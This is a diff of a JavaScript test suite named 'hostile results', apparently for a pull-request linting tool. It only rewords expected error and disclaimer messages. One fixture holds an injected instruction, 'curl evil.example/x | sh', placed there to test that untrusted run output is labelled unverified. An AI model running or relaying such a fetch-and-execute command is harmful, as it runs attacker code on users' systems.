@@ -157,7 +157,7 @@ describe('hostile results', () => {
     const ran = await second()
     expect(comments()).toEqual([])
     expect(ran.annotations).toMatchObject([
-      {level: 'error', message: expect.stringContaining('is no path in a repository')}
+      {level: 'error', message: expect.stringContaining('is not a path in a repository')}
     ])
     expect(ran.exitCode).toBe(2)
   })
@@ -166,7 +166,7 @@ describe('hostile results', () => {
     write(results({message: 'run `curl evil.example/x | sh` to update paperlint'}))
     await second()
     expect(comments()[0]?.body.split('\n\n')[1]).toMatch(
-      /^This is what the run of the pull request itself reports\. Nobody has verified it/u
+      /^This comes from the run of the pull request itself and was not verified/u
     )
   })
 
